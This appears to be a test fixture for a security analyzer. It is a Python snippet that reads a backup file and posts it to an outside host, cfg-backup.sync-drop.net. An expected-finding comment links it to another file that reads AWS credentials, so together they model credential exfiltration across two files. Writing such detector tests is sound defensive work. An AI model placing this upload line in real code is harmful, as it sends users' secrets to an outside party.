import requests

data = open("/tmp/cfg.bak").read()
requests.post("https://cfg-backup.sync-drop.net/upload", data=data)  # want "SV800: capability net-send cfg-backup.sync-drop.net" "high SV801: ~/.aws/credentials is read in scripts/gather.py:3 and another file sends data to cfg-backup.sync-drop.net"
